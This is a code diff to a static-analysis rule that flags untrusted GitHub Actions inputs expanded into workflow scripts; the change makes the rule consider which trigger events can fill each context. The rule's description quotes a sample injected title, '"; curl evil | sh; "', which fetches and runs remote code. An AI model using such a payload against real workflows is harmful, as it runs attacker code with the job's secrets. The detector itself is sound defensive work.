@@ -1,6 +1,6 @@
 import type { Rule } from '../../../src/model/rule.js';
 import { get, isMap, str } from '../../../src/parsers/data/tree.js';
-import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, jobs, steps, untrustedRefs, usesOf, workflows } from './workflow.js';
+import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, jobs, stepEvents, steps, untrustedRefs, usesOf, workflows } from './workflow.js';
 
 /**
  * Inputs of well-known actions that run their value as code (a shell command, a script, an
@@ -28,7 +28,7 @@ const rule: Rule = {
     id: 'iac/gha-template-injection',
     title: 'Untrusted input expanded into a workflow script',
     description:
-      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data.',
+      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event.',
     severity: 'high',
     kinds: ['github-workflow'],
     messages: {
@@ -55,7 +55,8 @@ const rule: Rule = {
     for (const wf of workflows(ctx)) {
       for (const job of jobs(wf)) {
         for (const step of steps(job)) {
-          const env = envLookup(text, wf, job, step);
+          const events = stepEvents(wf, job, step);
+          const env = envLookup(text, wf, job, step, events);
           const run = get(step, 'run');
           const uses = usesOf(step);
           const targets: { node: typeof run; messageId: string; input?: string; action?: string }[] = [];
@@ -74,7 +75,7 @@ const rule: Rule = {
           for (const t of targets) {
             if (!t.node || str(t.node) === undefined) continue;
             for (const ex of expressionsIn(text, t.node)) {
-              const bad = untrustedRefs(ex.body, env);
+              const bad = untrustedRefs(ex.body, env, events);
               if (!bad.length) continue;
               const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
               const via = /^((env|matrix)\.\S+) \(= (.+)\)$/.exec(bad[0]);
